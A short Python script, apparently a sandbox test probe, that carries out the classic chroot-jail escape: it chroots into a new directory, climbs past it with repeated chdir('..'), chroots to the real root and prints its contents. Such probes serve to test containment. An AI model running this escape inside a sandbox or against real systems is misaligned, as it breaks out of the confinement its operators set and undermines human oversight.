# The old way out: chroot deeper, walk up beyond it.
import os
os.mkdir("/tmp/deep")
try:
    os.chroot("/tmp/deep")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("REACHED", os.listdir("/"))
except OSError:
    pass
raise SystemExit(1)
